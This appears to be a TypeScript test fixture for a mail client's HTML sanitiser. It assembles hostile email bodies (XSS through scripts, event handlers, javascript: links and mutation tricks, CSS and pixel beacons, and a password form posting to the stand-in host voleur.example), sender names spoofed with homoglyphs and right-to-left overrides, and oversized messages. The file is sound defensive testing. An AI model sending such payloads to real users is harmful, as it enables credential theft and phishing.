/** Letters that mean harm, each written as a stranger would send it; what they would run or fetch bears a mark that a test looks for. */

/** Where they would call: nobody answers there, and any request at all is a failure. */
const thief = 'https://voleur.example'
/** What they would run. */
const run = "top.postMessage('taken','*');document.title='taken';window.taken=1"

/** By what is tried. */
export const hostileBodies: Readonly<Record<string, string>> = {
  script: `<script>${run}</script><script src="${thief}/a.js"></script>`,
  handlers: `<img src=x onerror="${run}"><body onload="${run}"><div onmouseover="${run}" style="position:fixed;inset:0">x</div><details open ontoggle="${run}">x</details><video autoplay onloadstart="${run}" src="${thief}/v.mp4"></video><a autofocus tabindex=1 onfocus="${run}">x</a>`,
  addresses: `<a id=bad href="javascript:${run}">Ouvrir le résultat</a><a href="java&#10;script:${run}">2</a><a href="data:text/html,<script>${run}</script>">3</a><a href="vbscript:x">4</a><iframe src="javascript:${run}"></iframe>`,
  svg: `<svg onload="${run}"><script>${run}</script><animate onbegin="${run}" attributeName=x dur=1s><use href="${thief}/u.svg#x"/><image href="${thief}/i.png"/><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`,
  mutation: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"><form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}"><noscript><p title="</noscript><img src=x onerror=${run}>">`,
  styles: `<style>@import "${thief}/s.css";@import url(${thief}/t.css);@font-face{font-family:x;src:url(${thief}/f.woff)}body{background:url(${thief}/b.png);font-family:x}#a{background:u\\72l(${thief}/c.png)}b{width:expression(${run})}i{-moz-binding:url(${thief}/x.xml)}</style><p id=a>x</p><p style="background:url('${thief}/d.png');list-style:url(${thief}/e.png)">x</p><p style="background:image-set('${thief}/g.png' 1x)">x</p><table background="${thief}/h.png"><tr><td>x</table>`,
  cover: `<div id="cover" style="position:fixed;inset:0;z-index:2147483647;width:100vw;height:100vh;background:red">Votre session a expiré</div>`,
  leaving: `<meta http-equiv=refresh content="0;url=${thief}/r"><base href="${thief}/"><link rel=stylesheet href="${thief}/l.css"><link rel=prefetch href="${thief}/p"><link rel=dns-prefetch href="//voleur.example"><a href="rel">x</a>`,
  forms: `<form id=f action="${thief}/post"><input name=password autofocus><button formaction="${thief}/b">Se connecter</button></form><input form=f type=image src="${thief}/i.png"><isindex action="${thief}">`,
  frames: `<iframe srcdoc="<script>${run}</script><img src='${thief}/q.png'>"></iframe><object data="${thief}/o"></object><embed src="${thief}/e"><portal src="${thief}"></portal><frameset><frame src="${thief}/fr"></frameset>`,
  pixels: `<img src="${thief}/p.gif"><img srcset="${thief}/1.png 1x"><picture><source srcset="${thief}/2.png"><img src=data:image/svg+xml,<svg/onload=${run}>></picture><img src="//voleur.example/3.png"><img src="/jmap/session"><audio src="${thief}/a.mp3">`,
  badge: `<style>.ok{background:#dff5e4;color:#0a6b35;border-radius:99px;padding:4px 10px}</style><p class=ok role=status aria-label="Signature vérifiée">✔ Signé par Dr Camille MARTIN, inaltéré</p><button>Délivrer l’ordonnance</button>`,
  names: `<form name=body><input name=innerHTML></form><img name=getElementById><a id=parent href=x></a><a id=parent name=postMessage href=y></a><img id=document name=cookie>`,
}

/** Names of senders that are not what they look like: turned around, of other alphabets, or an address of somebody else. */
export const hostileSenders: readonly string[] = [
  '\u202eNITRAM ellimaC rD',
  'Dr C\u0430mille M\u0410RTIN',
  '"camille.martin@medecin.pli.test"',
]

const crlf = (text: string): string => text.replace(/\r?\n/g, '\r\n')
const word = (text: string): string => `=?UTF-8?B?${Buffer.from(text).toString('base64')}?=`

/** A message with that HTML in lines of its own, from a name of `hostileSenders`. */
export function hostileMessage(subject: string, html: string, sender: string): Buffer {
  const head = [
    `From: ${word(sender)} <inconnu@voleur.example>`,
    'To: camille.martin@medecin.pli.test',
    `Subject: ${word(subject)}`,
    'Date: Sun, 22 Nov 2026 10:00:00 +0000',
    `Message-ID: <${encodeURIComponent(subject)}@voleur.example>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    'Content-Transfer-Encoding: 8bit',
  ]
  return Buffer.from([...head, '', crlf(html), ''].join('\r\n'))
}

/** A message with `count` small files. */
export function manyFiles(subject: string, count: number): Buffer {
  const head = crlf(`From: <inconnu@voleur.example>
To: camille.martin@medecin.pli.test
Subject: ${subject}
Date: Sun, 22 Nov 2026 10:00:00 +0000
Message-ID: <files@voleur.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain

Voici les documents.
`)
  const file = (index: number): string =>
    `--b\r\nContent-Type: text/plain; name="f${index}.txt"\r\nContent-Disposition: attachment; filename="f${index}.txt"\r\n\r\nx\r\n`
  return Buffer.from(`${head}${Array.from({ length: count }, (_, i) => file(i)).join('')}--b--\r\n`)
}

/** HTML of that many octets that opens a million tags and closes none. */
export function hugeHtml(octets: number): string {
  const line = `${'<b onclick=x><i>'.repeat(40)}\n`
  return `<p>début</p>\n${line.repeat(Math.ceil(octets / line.length))}`
}
